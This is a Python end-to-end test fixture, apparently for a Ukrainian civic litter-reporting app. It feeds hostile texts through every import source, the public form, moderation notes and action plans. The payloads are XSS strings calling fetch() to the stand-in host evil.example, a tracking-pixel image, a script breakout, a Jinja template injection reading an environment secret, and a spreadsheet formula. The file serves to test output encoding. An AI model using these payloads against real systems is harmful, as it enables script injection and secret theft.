"""Hostile texts fed through every source (Telegram, Facebook, CSV, XLSX, minutes, the
public form, the action plan, a moderator's note) into a copy of the demo store."""

from __future__ import annotations

import json
import shutil
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, select, update
from sqlalchemy.orm import Session

EVIL_HOST = "evil.example"
DEMO_SOURCES = Path(__file__).resolve().parents[2] / "data" / "demo" / "sources"
DEMO_MINUTES = DEMO_SOURCES / "minutes" / "minutes_10_2025-10-16.xlsx"
# One street per source and per minutes problem; reports of one source 50 hours apart:
# no two hostile reports are near-duplicates (data/text/dedupe.py: 150 m, 48 h), so all are drawn.
STREETS = [
    "вул. Соборності",
    "вул. Маріупольська",
    "вул. Набережна",
    "вул. Залізнична",
    "вул. Спортивна",
    "вул. Поетична",
    "вул. Шкільна",
]
GAP = timedelta(hours=50)


def payloads(tag: str) -> list[str]:
    """Texts that run script, fetch from an outside host or run a server template if any
    output forgets its encoder; `tag` says which source a hit came from."""
    return [
        f"${{top.__pwned='{tag}-tpl';fetch('//{EVIL_HOST}/{tag}-tpl')}}",
        f"<img src=x onerror=\"top.__pwned='{tag}-img';fetch('//{EVIL_HOST}/{tag}-img')\">",
        f"</script><script>top.__pwned='{tag}-script'</script>",
        f"![pixel](http://{EVIL_HOST}/{tag}-pixel.png)",
        f"`;top.__pwned='{tag}-tick';`",
        "{{ cycler.__init__.__globals__.os.environ.HOTSPOTS_SALT_FILE }}",
        f"<svg onload=\"top.__pwned='{tag}-svg'\"></svg> :red[{tag}] $x^2$",
    ]


def located(text: str, street: int, house: int) -> str:
    return f"{text} сміття біля {STREETS[street]}, {house}"


@dataclass
class Fed:
    """What was stored, for the browser tests to look up."""

    reports: dict[int, str] = field(default_factory=dict)  # id -> stored text of located hostile reports
    tracking: str = ""
    texts: list[str] = field(default_factory=list)


def _telegram(folder: Path, when: datetime) -> Path:
    messages = []
    unplaced = payloads("queue")[3] + " " + payloads("queue")[1] + " десь там"
    texts = [(when + i * GAP, located(text, 0, 11 + 2 * i)) for i, text in enumerate(payloads("tg"))]
    for i, (at, text) in enumerate([*texts, (when, unplaced)]):
        messages.append(
            {
                "id": 900_000 + i,
                "type": "message",
                "date": at.strftime("%Y-%m-%dT%H:%M:%S"),
                "date_unixtime": str(int(at.timestamp())),
                "from": "<b>Мallory</b>",
                "from_id": f"user77700{i}",
                "text": text,
                "text_entities": [{"type": "plain", "text": text}],
            }
        )
    path = folder / "telegram" / "result.json"
    path.parent.mkdir(parents=True)
    path.write_text(
        json.dumps(
            {"name": "Hostile", "type": "private_supergroup", "id": 777000, "messages": messages}, ensure_ascii=False
        ),
        encoding="utf-8",
    )
    return path


def _facebook(folder: Path, when: datetime) -> Path:
    def mojibake(text: str) -> str:  # Facebook's export writes UTF-8 bytes as Latin-1 code points
        return text.encode("utf-8").decode("latin-1")

    posts = [
        {
            "timestamp": int((when + i * GAP).timestamp()),
            "data": [{"post": mojibake(located(text, 1, 11 + 2 * i))}],
            "title": mojibake("Mallory posted in Вознесенськ"),
        }
        for i, text in enumerate(payloads("fb"))
    ]
    path = folder / "facebook" / "your_facebook_activity" / "groups" / "group_posts_and_comments.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps({"group_posts_v2": posts}), encoding="utf-8")
    return path


TABLE_HEADER = [
    "Номер звернення",
    "Дата звернення",
    "ПІБ заявника",
    "Телефон",
    "Адреса",
    "Зміст звернення",
    "Категорія",
    "Виконавець",
    "Статус",
]


def _rows(tag: str, when: datetime, street: int) -> list[list[str]]:
    return [
        [
            f"HX-{tag}-{i}",
            (when + i * GAP).strftime("%d.%m.%Y %H:%M"),
            '=HYPERLINK("x")',
            "",
            f"{STREETS[street]}, {11 + 2 * i}",
            located(text, street, 11 + 2 * i),
            "Сміття і стихійні звалища",
            "<b>Виконавець</b>",
            "В роботі",
        ]
        for i, text in enumerate(payloads(tag))
    ]


def hostile_csv(when: datetime, tag: str = "csv", street: int = 2) -> bytes:
    lines = [";".join(TABLE_HEADER)]
    for row in _rows(tag, when, street):
        lines.append(";".join('"' + cell.replace('"', '""') + '"' for cell in row))
    return ("\n".join(lines) + "\n").encode("utf-8")


def _csv(folder: Path, when: datetime) -> Path:
    path = folder / "hotline.csv"
    path.write_bytes(hostile_csv(when))
    return path


def _xlsx(folder: Path, when: datetime) -> Path:
    book = Workbook()
    sheet = book.active
    sheet.append(TABLE_HEADER)
    for row in _rows("xlsx", when, 3):
        sheet.append(row)
    path = folder / "hotline.xlsx"
    book.save(path)
    return path


def _minutes(folder: Path, when: datetime) -> Path:
    book = load_workbook(DEMO_MINUTES)
    meeting = book["meeting"]
    for row in meeting.iter_rows(min_row=2):
        name = str(row[0].value)
        if name.startswith("Номер"):
            row[1].value = "77"
        elif name.startswith("Дата"):
            row[1].value = when.replace(tzinfo=None)
        elif name.startswith("Місце"):
            row[1].value = payloads("meeting")[1] + " ЗОШ № 9"
    problems = book["problems"]
    texts = payloads("minutes")
    for i, row in enumerate(problems.iter_rows(min_row=2)):
        if i < len(texts):
            row[1].value = f"{STREETS[i]}, {41 + i}"
            row[2].value = located(texts[i], i, 41 + i)
            row[4].value = texts[(i + 1) % len(texts)]
            row[5].value = texts[(i + 2) % len(texts)]
    path = folder / "minutes_77_hostile.xlsx"
    book.save(path)
    return path


def feed(engine: Engine, folder: Path) -> Fed:
    """Import the hostile sources, submit a hostile form report, reject it with a hostile
    note, and add a hostile action; other quarantine items are set aside so the hostile
    one is the moderator's first."""
    from auth.users import User
    from data.organisations import find_or_create
    from data.store.schema import QuarantineRow, ReportRow
    from services import actions, form, moderation
    from services.importer import import_file

    with Session(engine) as session, session.begin():
        session.execute(update(QuarantineRow).values(resolved_at=datetime(2026, 1, 1, tzinfo=UTC)))
    when = datetime(2025, 12, 3, 9, 0, tzinfo=UTC)  # the demo clock says 2026-01-01: all in the police window
    folder.mkdir(parents=True, exist_ok=True)
    for path in (
        _telegram(folder, when),
        _facebook(folder, when),
        _csv(folder, when),
        _xlsx(folder, when),
        _minutes(folder, datetime(2025, 12, 24, tzinfo=UTC)),
    ):
        import_file(path, engine, actor="e2e")
        shutil.rmtree(path.parent, ignore_errors=True) if path.parent != folder else path.unlink()
    fed = Fed(texts=payloads("form"))
    receipt = form.submit(
        engine,
        description=located(payloads("form")[1], 4, 5),
        category="litter",
        lat=47.566,
        lon=31.33,
        contact=None,
        now=datetime(2025, 12, 20, 9, 0, tzinfo=UTC),
    )
    fed.tracking = receipt.tracking
    moderation.reject(
        engine, receipt.report_id, payloads("note")[3] + " " + payloads("note")[1], actor="moderator", role="moderator"
    )
    council = User("council", "council")
    organisation = find_or_create(engine, payloads("org")[0], "community")  # a hostile organisation name
    action_id = actions.create(
        engine,
        actions.ActionInput(
            description=payloads("action")[1],
            owner="council",
            owner_org_id=organisation,
            partners=payloads("org")[2],
            cell="881e43a501fffff",
            due_date=date(2026, 2, 1),
        ),
        user=council,
    )
    actions.update(
        engine,
        action_id,
        {"status": "done", "public_note": payloads("public")[1] + payloads("public")[0]},
        user=council,
    )
    with Session(engine) as session:
        rows = session.execute(
            select(ReportRow.id, ReportRow.text)
            .where(ReportRow.text.contains("__pwned") | ReportRow.text.contains(EVIL_HOST))
            .order_by(ReportRow.id)
        )
        fed.reports = {rid: text for rid, text in rows}
    return fed
